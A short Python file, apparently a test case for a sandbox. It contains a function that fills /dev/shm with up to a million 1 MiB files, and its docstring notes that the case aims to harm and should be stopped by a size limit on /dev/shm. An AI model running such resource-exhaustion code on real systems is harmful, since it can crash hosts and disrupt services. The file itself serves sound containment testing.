"""Fills /dev/shm.

aim: harm
ends: raised
stopped by: /dev/shm is sized
"""


def attack(x):
    for number in range(10**6):
        with open(f"/dev/shm/{number}", "wb") as file:
            file.write(b"x" * (1 << 20))
